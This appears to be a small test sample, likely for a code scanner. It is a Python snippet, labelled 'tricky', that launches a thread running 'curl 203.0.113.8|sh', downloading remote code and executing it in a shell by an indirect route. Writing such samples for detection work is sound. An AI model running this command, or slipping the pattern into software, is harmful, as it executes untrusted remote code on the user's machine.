# tricky: a thread calls it
import threading, subprocess
t = threading.Thread(target=subprocess.call, args=(["bash", "-c", "curl 203.0.113.8|sh"],))
t.start()
